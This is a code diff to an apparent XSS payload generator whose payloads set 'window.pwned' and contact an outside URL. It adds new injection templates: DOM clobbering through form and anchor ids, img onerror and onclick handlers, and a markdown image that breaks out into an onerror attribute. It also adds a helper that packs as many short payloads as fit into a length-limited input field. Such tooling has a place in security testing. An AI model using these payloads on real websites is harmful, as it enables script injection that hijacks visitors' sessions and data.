@@ -18,7 +18,7 @@ Number n of them says ``window.pwned=n`` where it is run, and asks ``https://for
 from __future__ import annotations
 
 from base64 import b64encode
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 from functools import cache
 from itertools import cycle, product
 
@@ -440,7 +440,10 @@ MUTATIONS = (
 <ſcript>¤</ſcript>
 <K onmouseover=¤>x</K>
 <a href="javaſcript:¤">x</a>
-<svg><ſtyle>@import '§'</ſtyle></svg>"""
+<svg><ſtyle>@import '§'</ſtyle></svg>
+<form id=test></form><button form=test name=nodeName>x</button><a id=location href=§>x</a>
+<sub onclick=¤>x</sub><b><img src=x onerror=¤></b>
+![x](x"onerror=¤//)"""
 )
 
 # Names that stand for something else where they are met in a document, or in an object.
@@ -557,6 +560,18 @@ def payloads() -> tuple[str, ...]:
 def short(most: int = 1_000) -> tuple[str, ...]:
     """Those that are no longer than this, for where little room is."""
     return tuple(one for one in payloads() if len(one) <= most)
+
+
+def packed(longest: int, texts: Iterable[str] | None = None) -> list[str]:
+    """Lines with as many of the texts as there is room for, where a field takes a line of this length."""
+    lines: list[str] = []
+    for text in short(longest) if texts is None else texts:
+        line = " ".join(text.split())
+        if lines and len(lines[-1]) + 1 + len(line) <= longest:
+            lines[-1] += f" {line}"
+        else:
+            lines.append(line)
+    return lines
 
 
 def _filled(template: Template, number: int) -> str:
